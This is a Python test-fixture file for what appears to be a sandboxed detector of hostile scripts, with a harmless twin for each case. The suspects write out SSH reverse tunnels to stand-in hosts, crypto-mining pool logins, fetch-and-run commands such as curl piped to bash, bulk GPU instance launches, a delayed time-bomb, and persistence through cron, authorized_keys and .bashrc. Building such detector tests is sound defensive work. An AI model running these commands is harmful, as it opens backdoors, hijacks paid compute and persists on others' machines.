"""Scripts that a trial must confirm, and their harmless twins: inert, of our own writing, run in the sandbox only."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True, slots=True)
class Suspect:
    """A script, the rule that is to be confirmed, and what its evidence must quote."""

    name: str
    language: str
    text: str
    rule: str
    source: str
    says: str
    options: dict[str, Any] = field(default_factory=dict)
    needs: str = ""
    """A package that the script imports; it then runs on the tests' own interpreter."""
    status: str = "confirmed"
    """`hidden` where reading does not foresee it, and the trial alone tells."""


_SSH = "sinkhole", "forward=remote"

SUSPECTS = (
    Suspect("ssh-plain", "bash", "ssh -N -R 2222:localhost:22 ops@203.0.113.5\n", "ssh-reverse-forward", *_SSH),
    Suspect(
        "ssh-background-bundled", "bash",
        "ssh -fNR 2222:localhost:22 -o ExitOnForwardFailure=yes -p 443 tun@tunnel.example\nsleep 1\n",
        "ssh-reverse-forward", *_SSH,
    ),
    Suspect(
        "ssh-option", "bash",
        'host=203.0.113.5\nssh -o StrictHostKeyChecking=yes -o "RemoteForward=2222 localhost:22" -N "root@$host"\n',
        "ssh-reverse-forward", *_SSH,
    ),
    Suspect(
        "ssh-from-python", "python",
        "import subprocess\nparts = ['ssh', '-N', '-R', '0.0.0.0:8022:127.0.0.1:22', 'ops@relay.example']\n"
        "p = subprocess.Popen(parts, start_new_session=True)\nimport time\ntime.sleep(1.5)\np.kill()\n",
        "ssh-reverse-forward", *_SSH,
    ),
    Suspect(
        "paramiko", "python",
        "import paramiko\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "client.connect('203.0.113.5', username='ops', password='x')\n"
        "client.get_transport().request_port_forward('', 8022)\nclient.exec_command('uname -a')\nclient.close()\n",
        "library-reverse-forward", *_SSH, needs="paramiko",
    ),
    Suspect(
        "asyncssh", "python",
        "import asyncio, asyncssh\nasync def main():\n"
        "    async with asyncssh.connect('relay.example', username='ops', known_hosts=None) as c:\n"
        "        await c.forward_remote_port('', 8022, 'localhost', 22)\n        await asyncio.sleep(0.3)\n"
        "asyncio.run(main())\n",
        "library-reverse-forward", *_SSH, needs="asyncssh",
    ),
    Suspect(
        "stratum", "python",
        "import json, socket\ns = socket.create_connection(('pool.example', 3333))\n"
        "def say(i, m, p):\n    s.sendall((json.dumps({'id': i, 'method': m, 'params': p}) + '\\n').encode())\n"
        "    return s.recv(4096)\nsay(1, 'mining.subscribe', ['c/1'])\nsay(2, 'mining.authorize', ['bc1qx.w', 'x'])\n",
        "stratum-session", "sinkhole", "wallet=bc1qx.w",
    ),
    Suspect(
        "stratum-tls", "python",
        "import json, socket, ssl\nraw = socket.create_connection(('pool.example', 14444))\n"
        "s = ssl.create_default_context().wrap_socket(raw, server_hostname='pool.example')\n"
        "s.sendall(b'{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"48abc\",\"pass\":\"x\",\"agent\":\"a/1\"}}\\n')\n"
        "s.recv(1000)\n",
        "stratum-session", "sinkhole", "wallet=48abc",
    ),
    Suspect(
        "curl-into-bash", "bash", "curl -fsSL https://get.example/x.sh | bash -s -- --now\n",
        "fetched-code-run", "strace", "/.trial-beacon/",
    ),
    Suspect(
        "wget-and-run", "bash",
        "cd /tmp && wget -q https://get.example/agent && chmod +x agent && ./agent --quiet\n",
        "fetched-code-run", "strace", "/.trial-beacon/",
    ),
    Suspect(
        "archive-and-run", "bash",
        "curl -sSL https://get.example/tool-1.2.tar.gz | tar xz -C /tmp\n/tmp/tool-1.2/tool --start\n",
        "fetched-code-run", "strace", "/.trial-beacon/",
    ),
    Suspect(
        "urllib-exec", "python",
        "from urllib.request import urlopen\nexec(urlopen('https://get.example/stage.py').read())\n",
        "fetched-code-run", "strace", "/.trial-beacon/",
    ),
    Suspect(
        "cloud-cli", "bash", "aws ec2 run-instances --instance-type p4d.24xlarge --count 8 --region us-east-1\n",
        "accelerator-machine-rented", "strace", "p4d.24xlarge",
    ),
    Suspect(
        "cloud-query", "python",
        "from urllib.parse import urlencode\nfrom urllib.request import Request, urlopen\n"
        "body = urlencode({'Action': 'RunInstances', 'InstanceType': 'p5.48xlarge', 'MaxCount': '4', 'MinCount': '4',"
        " 'ImageId': 'ami-0', 'Version': '2016-11-15'})\n"
        "urlopen(Request('https://ec2.us-east-1.amazonaws.com/', body.encode(),"
        " {'Authorization': 'AWS4-HMAC-SHA256 Credential=x'}))\n",
        "accelerator-machine-rented", "sinkhole", "p5.48xlarge", status="hidden",
    ),
    Suspect(
        "cloud-rest", "python",
        "import json\nfrom urllib.request import Request, urlopen\n"
        "data = json.dumps({'instance_type_name': 'gpu_8x_h100', 'region_name': 'us-west-1', 'quantity': 2}).encode()\n"
        "r = Request('https://cloud.lambda.ai/api/v1/instance-operations/launch', data,"
        " {'Authorization': 'Bearer x', 'Content-Type': 'application/json'})\nurlopen(r).read()\n",
        "accelerator-machine-rented", "sinkhole", "gpu_8x_h100",
    ),
    Suspect(
        "time-bomb", "bash",
        "(\n  sleep 86400\n  ssh -N -R 2222:localhost:22 ops@203.0.113.5\n) >/dev/null 2>&1 &\nexit 0\n",
        "ssh-reverse-forward", *_SSH, options={"grace": 1.0},
    ),
    Suspect(
        "double-fork", "python",
        "import os, socket, json, time\nif os.fork():\n    os._exit(0)\nos.setsid()\nif os.fork():\n    os._exit(0)\n"
        "time.sleep(0.5)\ns = socket.create_connection(('pool.example', 3333))\n"
        "s.sendall(json.dumps({'id': 1, 'method': 'mining.subscribe', 'params': ['x']}).encode() + b'\\n')\n"
        "s.recv(9)\n",
        "stratum-session", "sinkhole", "act=subscribe",
    ),
    Suspect(
        "cron", "bash", "echo '*/5 * * * * worker /tmp/.x' > /etc/cron.d/sync\n",
        "cron-edit", "strace", "/etc/cron.d/sync",
    ),
    Suspect(
        "authorized-keys", "python",
        "from pathlib import Path\nkeys = Path.home() / '.ssh' / 'authorized_keys'\n"
        "with keys.open('a') as f:\n    f.write('ssh-ed25519 AAAAC3Nza x\\n')\n",
        "authorized-keys-edit", "strace", "authorized_keys",
    ),
    Suspect(
        "login-script", "bash", "echo 'nohup /tmp/.x &' >> ~/.bashrc\n", "login-script-write", "strace", ".bashrc",
    ),
)  # fmt: skip

HARMLESS = (
    ("ssh-mentioned", "bash", "echo 'ssh -R 2222:localhost:22 ops@203.0.113.5' > notes.txt\ngrep -c -- -R notes.txt\n"),
    ("ssh-remote-command", "bash", "ssh ops@203.0.113.5 'grep -R needle /srv | head'\n"),
    ("ssh-keygen", "bash", "ssh-keygen -q -t ed25519 -N '' -f /tmp/k\nssh-keygen -R host.example -f /tmp/h || true\n"),
    (
        "pool-named", "python",
        "blocked = {'pool.example': 3333, 'xmrig': 'miner'}\nprint(sorted(blocked))\nassert 'xmrig' in blocked\n",
    ),
    ("download-data", "bash", "curl -fsSL https://data.example/train.csv -o train.csv\nwc -c train.csv\n"),
    (
        "json-rpc", "python",
        "import json, socket\ns = socket.create_connection(('rpc.example', 8545))\n"
        "s.sendall(json.dumps({'id': 1, 'method': 'eth_blockNumber', 'params': []}).encode() + b'\\n')\ns.recv(99)\n",
    ),
    ("cloud-list", "bash", "aws ec2 describe-instances --region us-east-1\naws s3 ls\n"),
    (
        "cloud-describe", "python",
        "from urllib.request import urlopen\n"
        "urlopen('https://ec2.us-east-1.amazonaws.com/?Action=DescribeInstances&Version=2016-11-15').read()\n",
    ),
    ("background-wait", "bash", "(sleep 0.2; echo done > done.txt) &\nwait\ncat done.txt\n"),
    ("own-config", "bash", "mkdir -p ~/.config/tool && echo x=1 > ~/.config/tool/config\ncat ~/.config/tool/config\n"),
)  # fmt: skip
